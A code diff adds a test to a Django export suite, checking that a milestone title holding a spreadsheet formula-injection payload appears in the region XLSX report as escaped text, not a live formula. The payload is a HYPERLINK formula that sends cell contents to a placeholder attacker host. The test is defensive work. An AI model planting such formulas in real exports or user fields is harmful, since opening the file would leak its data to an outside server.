@@ -68,3 +68,16 @@ def test_progress_fragment_polls_until_done(client_for, padang_admin):
 def test_outsider_cannot_start_an_export(client_for, nobody):
     assert client_for(nobody).post(reverse("replication:export")).status_code == 404
     assert not Job.objects.exists()
+
+
+def test_region_report_holds_no_live_formula_from_a_milestone_title(client_for, padang_admin):
+    from tests.factories import MilestoneFactory
+
+    attack = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
+    MilestoneFactory(commitment=make_commitment("13.71", "ayo-ceting"), title=attack)
+    response = client_for(padang_admin).get(reverse("replication:region_xlsx", args=["13.71"]))
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert "'" + attack in [c.value for c in cells]
+    assert all(c.data_type != "f" for c in cells)
